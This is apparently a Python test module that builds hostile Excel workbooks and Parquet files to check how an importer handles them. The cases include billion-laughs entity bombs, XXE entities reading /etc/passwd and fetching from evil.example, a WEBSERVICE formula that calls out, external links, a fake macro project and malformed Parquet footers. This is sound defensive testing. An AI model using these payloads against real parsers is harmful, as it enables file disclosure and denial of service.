"""Workbooks and Parquet files that mean harm."""

from __future__ import annotations

import datetime as dt
import struct
from functools import partial
from typing import TYPE_CHECKING, Any

from tests.hostile.case import Case, End, imports, octets
from tests.hostile.packing import zipped
from tests.hostile.tables import DAY, HEAD
from tests.hostile.words import TEXTS

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator
    from pathlib import Path

SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def workbook(
    sheet: str = "", *, shared: str = "", book: str = "", more: dict[str, bytes] | None = None, doctype: str = ""
) -> bytes:
    """Return a workbook put together from the text of its parts; `sheet` stands where its rows stand."""
    strings = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_TYPES}.sharedStrings+xml"/>' if shared else ""
    parts = {
        "[Content_Types].xml": f'{SHEET_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{_TYPES}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_TYPES}.worksheet+xml"/>{strings}</Types>',
        "_rels/.rels": f'{SHEET_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": book or f'{SHEET_HEAD}<workbook xmlns="{MAIN}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{SHEET_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        + ('<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>' if shared else "")
        + "</Relationships>",
        "xl/worksheets/sheet1.xml": f'{SHEET_HEAD}{doctype}<worksheet xmlns="{MAIN}"><dimension ref="A1:XFD1048576"/><sheetData>{sheet}</sheetData></worksheet>',
    }  # fmt: skip
    if shared:
        parts["xl/sharedStrings.xml"] = shared
    return zipped({name: text.encode() for name, text in parts.items()} | (more or {}))


def sheet_row(number: int | str, cells: Iterable[object]) -> str:
    """Return a row of a sheet, its cells as texts."""

    def cell(value: object) -> str:
        text = str(value).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        return f'<c t="inlineStr"><is><t>{text}</t></is></c>'

    return f'<row r="{number}">{"".join(map(cell, cells))}</row>'


_HEAD_ROW = sheet_row(1, HEAD)
_GOOD_ROW = sheet_row(2, ["handed", "x1", "p0", DAY, "Hello"])
_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
OUTSIDE = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:/etc/passwd'><!ENTITY f SYSTEM 'https://evil.example/e'>]>"


def _entity(name: str) -> str:
    return f'<row r="2"><c t="inlineStr"><is><t>{name}</t></is></c></row>'


def _shared_bomb() -> bytes:
    strings = f'{SHEET_HEAD}<sst xmlns="{MAIN}">' + f"<si><t>{'x' * 30_000}</t></si>" * 1000 + "</sst>"
    rows = "".join(f'<row r="{n}">' + '<c t="s"><v>0</v></c>' * 900 + "</row>" for n in range(2, 300))
    return workbook(_HEAD_ROW + rows, shared=strings)


_BOOKS: dict[str, tuple[Callable[[], bytes] | bytes, End]] = {
    "entities that multiply": (lambda: workbook(_HEAD_ROW + _entity("&a11;"), doctype=_LAUGHS), End.REFUSED),
    "an entity from outside": (lambda: workbook(_HEAD_ROW + _entity("&e;&f;"), doctype=OUTSIDE), End.REFUSED),
    "entities in the list of sheets": (lambda: workbook(book=f"{SHEET_HEAD}{_LAUGHS}<workbook xmlns='{MAIN}'>&a11;</workbook>"), End.REFUSED),
    "entities in shared texts": (lambda: workbook(_HEAD_ROW, shared=f"{SHEET_HEAD}{_LAUGHS}<sst xmlns='{MAIN}'><si><t>&a11;</t></si></sst>"), End.REFUSED),
    "shared texts that swell": (_shared_bomb, End.ASIDE),
    "a broken list of sheets": (lambda: workbook(book="<workbook><sheets>"), End.REFUSED),
    "no sheet": (lambda: workbook(book=f"<workbook xmlns='{MAIN}'><sheets/></workbook>"), End.REFUSED),
    "a sheet that is not there": (lambda: workbook(book=f"{SHEET_HEAD}<workbook xmlns='{MAIN}' xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'><sheets><sheet name='S' sheetId='1' r:id='rId9'/></sheets></workbook>"), End.REFUSED),
    "a broken sheet": (lambda: workbook(_HEAD_ROW + "<row><c>"), End.REFUSED),
    "row ten billion": (lambda: workbook(_HEAD_ROW + sheet_row(9_999_999_999, ["handed", "x1", "p0", DAY])), End.REFUSED),
    "row 1,048,576": (lambda: workbook(_HEAD_ROW + sheet_row(1_048_576, ["handed", "x2", "p0", DAY])), End.TAKEN),
    "a row that is no number": (lambda: workbook(_HEAD_ROW + sheet_row("=1", ["handed", "x1", "p0", DAY])), End.REFUSED),
    "a cell far to the right": (lambda: workbook(_HEAD_ROW + '<row r="2"><c r="ZZZZZZZ2" t="inlineStr"><is><t>x</t></is></c></row>'), End.REFUSED),
    "a text that is not there": (lambda: workbook(_HEAD_ROW + '<row r="2"><c t="s"><v>99</v></c></row>', shared=f"<sst xmlns='{MAIN}'/>"), End.REFUSED),
    "a number of 5000 digits": (lambda: workbook(_HEAD_ROW + f'<row r="2"><c><v>{"9" * 5000}</v></c></row>'), End.REFUSED),
    "times without end": (lambda: workbook(_HEAD_ROW + '<row r="2"><c t="inlineStr"><is><t>handed</t></is></c><c><v>1e308</v></c><c t="d"><v>9999-99-99</v></c><c t="e"><v>#REF!</v></c></row>'), End.REFUSED),
    "a formula that fetches": (lambda: workbook(_HEAD_ROW + '<row r="2"><c t="str"><f>WEBSERVICE("https://evil.example/x")</f><v>handed</v></c><c t="inlineStr"><is><t>f1</t></is></c><c t="inlineStr"><is><t>p0</t></is></c><c t="inlineStr"><is><t>2026-05-06</t></is></c></row>'), End.TAKEN),
    "links to other books": (lambda: workbook(_HEAD_ROW + _GOOD_ROW, more={"xl/externalLinks/externalLink1.xml": OUTSIDE.encode() + b"<externalLink/>", "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x" Target="file:/etc/passwd" TargetMode="External"/></Relationships>'}), End.TAKEN),
    "a program in it": (lambda: workbook(_HEAD_ROW + _GOOD_ROW, more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(500)}), End.TAKEN),
    "every harmful text": (lambda: workbook(_HEAD_ROW + "".join(sheet_row(n, ["handed", f"s{n}", "p0", DAY, text]) for n, text in enumerate(TEXTS.values(), 2) if text.isprintable())), End.TAKEN),
}  # fmt: skip


def books() -> Iterator[Case]:
    """Give workbooks that mean harm."""
    for name, (make, end) in _BOOKS.items():
        yield Case(name=f"items: workbook, {name}", way=imports("items"), file="book.xlsx", make=octets(make), end=end)
    yield Case(name="roster: workbook, entities that multiply", way=("roster", "import", "FILE", "--json"), file="roster.xlsx",
               make=octets(lambda: workbook(_HEAD_ROW + _entity("&a11;"), doctype=_LAUGHS)), end=End.REFUSED)  # fmt: skip


def _parquet(columns: Callable[[], dict[str, Any]], path: Path, **options: object) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.table(columns()), path, **options)


def _good(count: int = 1) -> dict[str, Any]:
    return {
        "source": ["handed"] * count, "native_id": [f"q{n}" for n in range(count)], "person": ["p0"] * count,
        "created_at": [DAY] * count,
    }  # fmt: skip


def _odd() -> dict[str, Any]:
    import pyarrow as pa

    far = pa.array([2**62], pa.timestamp("ns", tz="Pacific/Kiritimati"))
    return _good() | {"created_at": far, "text": pa.array([[{"a": [1]}]]), "views": pa.array([b"\xff\xfe"]), "space": pa.nulls(1),
                      "lang": pa.array([dt.timedelta(days=9)]), "url": pa.array([2**63], pa.uint64())}  # fmt: skip


def _beyond() -> dict[str, Any]:
    import pyarrow as pa

    return _good() | {"created_at": pa.array([2**40], pa.timestamp("s"))}


def _same(rows: int, length: int) -> dict[str, Any]:
    import pyarrow as pa

    index = pa.repeat(pa.scalar(0, pa.int32()), rows)
    return {name: pa.DictionaryArray.from_arrays(index, ["handed" if length < 9 else "x" * length]) for name in HEAD[:5]}


def _with_footer(length: int) -> bytes:
    return b"PAR1" + bytes(100) + struct.pack("<I", length) + b"PAR1"


def parquets() -> Iterator[Case]:
    """Give Parquet files that mean harm."""
    made: dict[str, tuple[Any, End]] = {
        "types of all kinds": (partial(_parquet, _odd), End.ASIDE),
        "a time beyond all years": (partial(_parquet, _beyond), End.ASIDE),
        "twenty million rows of one": (partial(_parquet, partial(_same, 20_000_000, 6)), End.REFUSED),
        "a text of a megabyte in every row": (partial(_parquet, partial(_same, 20_000, 1_000_000)), End.REFUSED),
        "a footer longer than the file": (octets(_with_footer(0x7FFFFFFF)), End.REFUSED),
        "a footer of nothing": (octets(_with_footer(0)), End.REFUSED),
        "no rows": (partial(_parquet, lambda: _good(0)), End.TAKEN),
    }
    for name, (make, end) in made.items():
        yield Case(name=f"items: Parquet, {name}", way=imports("items"), file="rows.parquet", make=make, end=end)
    yield Case(name="items: Parquet, cut off", way=imports("items"), file="rows.parquet", make=_cut_off, end=End.REFUSED)


def _cut_off(path: Path) -> None:
    _parquet(lambda: _good(1000), path)
    path.write_bytes(path.read_bytes()[:-200])
